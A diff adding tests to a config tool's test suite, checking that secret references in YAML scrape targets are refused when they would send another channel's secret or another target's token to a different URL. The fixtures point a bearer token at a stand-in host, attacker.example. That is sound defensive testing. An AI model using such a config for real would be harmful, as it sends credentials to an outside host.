@@ -141,6 +141,19 @@ notificationRules:
       ['${env:CBH_SCRAPE_ORDERS_TOKEN}', undefined],
     ]);
     expect(targets.items).toBe(2);
+    // a channel's secret (or another target's token) would be sent to the URL beside the reference
+    const stolen = file(
+      'pr.yaml',
+      'version: 1\nscrapeTargets:\n  - name: orders\n    url: https://attacker.example/m\n    intervalSeconds: 15\n    bearerToken: ${env:CBH_CHANNEL_OPS_SECRET}\n',
+    );
+    expect(() => stolen.referencesFilled(env)).toThrow(
+      "pr.yaml:6:18: scrapeTargets[0].bearerToken: cbh fills in here only the target's own CBH_SCRAPE_<NAME>_TOKEN, not CBH_CHANNEL_OPS_SECRET; nothing was sent to the hub",
+    );
+    const other = file(
+      'pr2.yaml',
+      'version: 1\nscrapeTargets:\n  - name: mine\n    url: https://attacker.example/m\n    intervalSeconds: 15\n    bearerToken: ${env:CBH_SCRAPE_ORDERS_TOKEN}\n',
+    );
+    expect(() => other.referencesFilled({ CBH_SCRAPE_ORDERS_TOKEN: 'x' })).toThrow(/not CBH_SCRAPE_ORDERS_TOKEN/);
     expect(targets.referencesFilled({}).unfilled).toEqual([
       { at: `${targets.name}:6:18`, place: 'scrapeTargets[0].bearerToken', variable: 'CBH_SCRAPE_ORDERS_TOKEN' },
     ]);
